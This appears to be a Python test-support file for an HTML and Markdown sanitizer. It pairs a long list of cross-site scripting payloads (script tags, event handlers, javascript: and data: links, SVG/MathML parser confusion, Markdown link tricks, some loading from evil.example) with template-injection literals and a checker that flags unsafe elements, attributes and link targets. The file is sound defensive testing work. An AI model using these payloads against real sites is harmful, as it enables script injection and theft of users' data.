"""Hostile texts of our own making, and what an HTML parser must not find in what we give out."""

from collections.abc import Collection, Iterator
from urllib.parse import urlsplit

import html5lib

# Written by shape: every way known to us by which text has become script, style or
# a form on somebody's page. "X" stands for what an attacker would run.
PAYLOADS = (
    # Elements that run or load something.
    "<script>X()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>X()</scr</script>ipt>",
    "<script\x0d>X()</script\x20>",
    "<script/x>X()</script>",
    "<script>/*</script><b>*/X()",
    "<iframe src=javascript:X()></iframe>",
    "<iframe srcdoc='&lt;script&gt;X()&lt;/script&gt;'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=X></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:X()'>",
    "<base href=//evil.example/>",
    "<frameset onload=X()><frame src=javascript:X()></frameset>",
    "<portal src=//evil.example>",
    "<template><img src=x onerror=X()></template>",
    "<noscript><p title='</noscript><img src=x onerror=X()>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=X()>'>",
    "<title></title><script>X()</script>",
    "<textarea></textarea><script>X()</script>",
    "<xmp><img src=x onerror=X()></xmp>",
    "<plaintext><script>X()</script>",
    "<marquee onstart=X()>",
    "<bgsound src=javascript:X()>",
    "<isindex action=javascript:X()>",
    "<keygen autofocus onfocus=X()>",
    # Handlers on harmless elements.
    "<p onclick=X()>a</p>",
    "<b onmouseover='X()'>a</b>",
    "<b/onmouseover=X()>a</b>",
    "<b\x0conmouseover=X()>a</b>",
    '<b "=\'" onmouseover=X()>a</b>',
    "<img src=x onerror=X()>",
    "<img src=x:x onerror\n=X()>",
    "<img src='1' onerror=\"X()\" x='",
    '<IMG """><SCRIPT>X()</SCRIPT>">',
    "<image src=x onerror=X()>",
    "<video><source onerror=X()></video>",
    "<audio src=x onerror=X() autoplay>",
    "<details open ontoggle=X()>a</details>",
    "<input autofocus onfocus=X()>",
    "<select autofocus onfocus=X()>",
    "<body onload=X()>",
    "<div onpointerenter=X()>a</div>",
    "<a href=# onclick=X()>a</a>",
    "<blockquote onwheel=X()>a</blockquote>",
    "<ul onscroll=X()><li>a</ul>",
    # Targets of links.
    "<a href=javascript:X()>a</a>",
    "<a href='JaVaScRiPt:X()'>a</a>",
    "<a href=' javascript:X()'>a</a>",
    "<a href='java\tscript:X()'>a</a>",
    "<a href='java&#10;script:X()'>a</a>",
    "<a href='&#106;avascript:X()'>a</a>",
    "<a href='&#x6A&#x61vascript&colon;X()'>a</a>",
    "<a href='\x01javascript:X()'>a</a>",
    "<a href='javascript&NewLine;:X()'>a</a>",
    "<a href='vbscript:X()'>a</a>",
    "<a href='data:text/html,<script>X()</script>'>a</a>",
    "<a href='blob:https://example.org/1'>a</a>",
    "<a href='filesystem:https://example.org/1'>a</a>",
    "<a href='//evil.example'>a</a>",
    "<a href='/\\evil.example'>a</a>",
    "<a href='https://bank.example@evil.example/'>a</a>",
    "<a xlink:href=javascript:X()>a</a>",
    "<a ping=//evil.example href=https://example.org/>a</a>",
    "<a download target=_top href=https://example.org/>a</a>",
    "<a href='https://example.org/' rel=opener>a</a>",
    # Foreign content and confused parsers.
    "<svg onload=X()>",
    "<svg><script>X()</script></svg>",
    "<svg><a xlink:href=javascript:X()><text>a</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:X()></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=X()>'>",
    "<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=X()>",
    "<math><mi xlink:href='javascript:X()'>a</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=X()></style></table></math>",
    "<math><annotation-xml encoding='text/html'><script>X()</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=X()>",
    "<table><caption><p><script>X()</script></table>",
    "<!--><img src=x onerror=X()>-->",
    "<!-- --!><img src=x onerror=X()>",
    "<![CDATA[<img src=x onerror=X()>]]>",
    "<?xml version='1.0'?><script>X()</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>X()</script>'>]>&x;",
    "<%<script>X()</script>%>",
    "</p><script>X()</script><p>",
    "<<script>X();//<</script>",
    "<a<b onclick=X()>a",
    "\x00<scr\x00ipt>X()</scr\x00ipt>",
    "\ufeff<script>X()</script>",
    "＜script＞X()＜/script＞",
    "+ADw-script+AD4-X()+ADw-/script+AD4-",
    "&lt;script&gt;X()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;X()",
    # Style, names that overwrite the page's own, and forms.
    "<p style='background:url(javascript:X())'>a</p>",
    "<p style='position:fixed;inset:0'>a</p>",
    "<div class=modal id=root name=cookie>a</div>",
    "<a id=location href=https://example.org/ name=location>a</a>",
    "<form action=//evil.example><input name=password type=password><button>a</button></form>",
    "<button formaction=javascript:X()>a</button>",
    "<slot name=x is=evil-element part=x>a</slot>",
    "<p lang=x dir=rtl title='X' tabindex=0 contenteditable data-x=1 aria-label=x>a</p>",
    # Markdown that becomes any of these.
    "[a](javascript:X())",
    "[a](JAVASCRIPT:X())",
    "[a](<javascript:X()>)",
    "[a](&#106;avascript:X())",
    "[a](java%0ascript:X())",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:X())",
    "[a](//evil.example)",
    "[a](https://example.org/ \"' onmouseover='X()\")",
    '[a](https://example.org/"onmouseover=X()//)',
    "[a](https://bank.example@evil.example/)",
    "[<script>X()</script>](https://example.org/)",
    "[a][b]\n\n[b]: javascript:X()",
    "![a](https://evil.example/x.png)",
    "![a](x onerror=X())",
    "![<img src=x onerror=X()>](https://evil.example)",
    "<javascript:X()>",
    '<https://example.org/"onmouseover=X()>',
    "https://example.org/'onmouseover='X()",
    "https://example.org/<script>X()</script>",
    "`<script>X()</script>`",
    '```"><script>X()</script>\n<img src=x onerror=X()>\n```',
    "```js onload=X()\na\n```",
    "> <img src=x onerror=X()>",
    "- <svg onload=X()>",
    "**<b onclick=X()>a**",
    "*a <script>* X()</script>",
    "# <script>X()</script>",
    "a <script\n>X()</script>",
    "\\<script>X()</script>",
    "<b>a</b>\n\n<div>\n**b**\n</div>",
    "| a |\n|---|\n| <script>X()</script> |",
)

# Text that is dangerous in other places than HTML: templates, JSON, feeds, formats.
LITERALS = (
    "</script>",
    "<!--",
    "]]>",
    "\u2028",
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "<%= 7*7 %>",
    "%s %(x)s",
    "{0} {x!r}",
    "&amp; &lt; &#60;",
    "\"quoted\" and 'quoted'",
)


def faults(html: str, allowed_tags: Collection[str]) -> Iterator[str]:
    """Name everything in a piece of HTML that must not be on a page.

    Only links may have attributes, which are ``href`` to the web or a mail address,
    and ``rel``. The piece must also be closed: nothing of the page after it may land
    inside.
    """
    page = html5lib.parseFragment(
        f"<section>{html}<hr></section><footer></footer>", namespaceHTMLElements=False
    )
    if [child.tag for child in page] != ["section", "footer"] or page[0][-1].tag != "hr":
        yield "it does not close what it opens"
    for element in page[0].iter():
        if element is page[0] or element is page[0][-1]:
            continue
        if element.tag not in allowed_tags:
            yield f"element {element.tag}"
        for name, value in element.attrib.items():
            if element.tag != "a" or name not in ("href", "rel"):
                yield f"attribute {name} on {element.tag}"
            if name == "href" and urlsplit(value).scheme not in ("http", "https", "mailto"):
                yield f"target {value}"
        if element.tag == "a" and not {"noopener"} <= set(element.get("rel", "").split()):
            yield "a link without rel"
